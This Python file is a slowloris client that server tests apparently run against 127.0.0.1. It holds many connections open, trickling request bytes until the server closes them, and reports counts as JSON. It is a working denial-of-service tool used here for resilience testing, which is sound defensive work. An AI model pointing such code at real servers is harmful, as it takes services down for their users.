"""A slowloris attack on 127.0.0.1, run as a process of its own by the server tests.

``python slowloris_client.py PORT CONNECTIONS SECONDS INTERVAL [once]``: keeps
CONNECTIONS connections open to 127.0.0.1:PORT, each sending a request head one byte
every INTERVAL seconds and never finishing it; a connection the server closes is opened
again at once (``once``: it is not).
Stops by itself after SECONDS and prints one JSON line: connections opened, closed by
the server, failed to connect, and replies seen.
"""

from __future__ import annotations

import asyncio
import json
import resource
import sys
import time

HEAD = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + b"a" * 4096


async def attacker(
    port: int, until: float, interval: float, again: bool, stats: dict[str, int]
) -> None:
    first = True
    while time.monotonic() < until and (again or first):
        first = False
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection("127.0.0.1", port),
                timeout=max(until - time.monotonic(), 0.01),
            )
        except (TimeoutError, OSError):
            stats["connect_failed"] += 1
            await asyncio.sleep(0.05)
            continue
        stats["opened"] += 1
        try:
            for byte in HEAD:
                if time.monotonic() >= until:
                    break
                writer.write(bytes([byte]))
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                except TimeoutError:
                    continue  # still open, still silent: the next byte
                if data:
                    stats["replies"] += 1
                stats["closed_by_server"] += 1
                break
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            writer.close()


async def main(port: int, connections: int, seconds: float, interval: float, again: bool) -> None:
    until = time.monotonic() + seconds
    stats = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "replies": 0}
    await asyncio.gather(
        *(attacker(port, until, interval, again, stats) for _ in range(connections))
    )
    print(json.dumps(stats), flush=True)


if __name__ == "__main__":
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    port, connections = int(sys.argv[1]), int(sys.argv[2])
    seconds, interval = float(sys.argv[3]), float(sys.argv[4])
    again = sys.argv[5:] != ["once"]
    asyncio.run(main(port, connections, seconds, interval, again))
